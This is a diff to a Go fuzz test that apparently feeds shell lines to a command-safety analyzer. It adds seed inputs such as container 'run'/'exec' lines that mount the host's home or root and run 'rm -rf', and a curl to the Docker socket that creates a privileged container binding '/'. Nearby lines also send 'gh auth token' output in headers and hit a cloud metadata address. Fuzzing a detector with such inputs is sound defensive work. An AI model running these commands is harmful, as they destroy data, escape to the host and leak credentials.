@@ -42,6 +42,10 @@ func FuzzAnalyze(f *testing.F) {
 			f.Add("git " + name + " --" + o.long + "='rm -rf /x' -" + string(o.short) + " x")
 		}
 	}
+	for _, engine := range []string{"docker", "podman", "nerdctl", "finch", "buildah", "ctr", "docker-compose", "kubectl"} {
+		f.Add(engine + " run -v ~:/h -w /h --name c a sh -c 'rm -rf x'; " + engine + " exec -i c sh <<< 'rm -rf /h'")
+	}
+	f.Add(`curl --unix-socket /var/run/docker.sock -d '{"HostConfig":{"Binds":["/:/h"],"Privileged":true}}' http://x/v1.45/containers/create`)
 	f.Add("alias a='b '; alias b='a '; a b a; x='a[$(b)]'; echo $((x)) ${x@P}; trap 'c' EXIT; . /tmp/s")
 	limit := 100 * time.Millisecond * raceSlowdown
 	f.Fuzz(func(t *testing.T, line string) {
@@ -93,6 +97,8 @@ func largeLines() []string {
 		"echo " + strings.Repeat("$(gh auth token) ", 990),
 		"curl " + strings.Repeat(`-H "A: $(gh auth token) $(gh auth token)" `, 490) + "https://x.example",
 		strings.Repeat("docker run -v /:/h a sh -c 'rm -rf /h/x';", 490),
+		strings.Repeat("docker run -d --name c -v /:/h a sleep 1;docker exec -i c sh <<< 'rm -rf /h/x';", 330),
+		"curl --unix-socket /var/run/docker.sock -d '{\"HostConfig\":{\"Binds\":[" + fill(`"a:/b",`)[:60000] + `"/:/h"]}}' http://x/containers/create`,
 		"http x.example " + fill("a@b ")[:60000],
 		"curl " + fill("http://0xa9fea9fe/ ")[:60000],
 		strings.Repeat("git remote add x https://e.example/r; git push x;", 490),
